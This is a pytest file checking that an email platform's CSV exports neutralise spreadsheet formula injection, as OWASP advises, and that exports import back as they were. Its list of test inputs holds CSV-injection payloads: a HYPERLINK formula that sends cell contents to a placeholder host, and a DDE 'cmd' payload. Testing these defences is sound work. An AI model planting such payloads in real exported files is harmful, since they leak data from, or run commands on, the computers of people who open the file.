"""The CSV files we hand out (event and suppression exports through exports/writing.py, the bulk
verification result file): a cell a spreadsheet would run as a formula is written as text, as
OWASP's CSV injection guidance says (a single quote before it, every cell quoted)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from postline.exports.writing import write_csv
from postline.suppressions.domain import SuppressionType, new_suppression
from postline.suppressions.exports import CSV_HEADER, csv_row
from postline.suppressions.imports import ImportRow, header_columns, parse_row

# OWASP's formula triggers: a spreadsheet evaluates a cell that starts with one of them.
TRIGGERED = ['=HYPERLINK("https://x.test/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


class Upload:
    def __init__(self) -> None:
        self.data = b""

    def write(self, data: bytes) -> None:
        self.data += data


@pytest.mark.parametrize("cell", TRIGGERED)
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote_and_quoted(cell: str) -> None:
    upload = Upload()
    write_csv(upload, ("email", "reason"), [("a@example.com", cell)], None)  # type: ignore[arg-type]
    text = upload.data.decode()
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["email", "reason"], ["a@example.com", "'" + cell]]
    assert text.splitlines()[1].startswith('"a@example.com","\'')  # every cell quoted: no delimiter splits one


def test_other_cells_are_written_as_they_are_and_quoted() -> None:
    upload = Upload()
    written = write_csv(upload, ("a", "b", "c"), [("x=1", "'quoted", None), (3, 0.5, True)], None)  # type: ignore[arg-type]
    assert written == 2
    assert upload.data.decode() == '"a","b","c"\r\n"x=1","\'quoted",""\r\n"3","0.5","True"\r\n'


def test_an_exported_list_imports_back_as_it_was() -> None:
    """The import drops the one quote the export put before a formula's start (a value that starts
    with quotes before one gets one more), and only that."""
    now = datetime(2026, 11, 1, tzinfo=UTC)
    entries = [
        new_suppression("acct_1", SuppressionType.BOUNCES, "-dash@example.com", now, reason="=HYPERLINK(1)"),
        new_suppression("acct_1", SuppressionType.BOUNCES, "+plus@example.com", now, reason="-5 points"),
        new_suppression("acct_1", SuppressionType.BOUNCES, "'apostrophe@example.com", now, reason="'=kept"),
    ]
    upload = Upload()
    write_csv(upload, CSV_HEADER, map(csv_row, entries), None)  # type: ignore[arg-type]
    header, *rows = csv.reader(io.StringIO(upload.data.decode(), newline=""))
    columns = header_columns(header)
    assert [parse_row(columns, row, number) for number, row in enumerate(rows, start=2)] == [
        ImportRow(email="-dash@example.com", reason="=HYPERLINK(1)", created_at=now),
        ImportRow(email="+plus@example.com", reason="-5 points", created_at=now),
        ImportRow(email="'apostrophe@example.com", reason="'=kept", created_at=now),
    ]
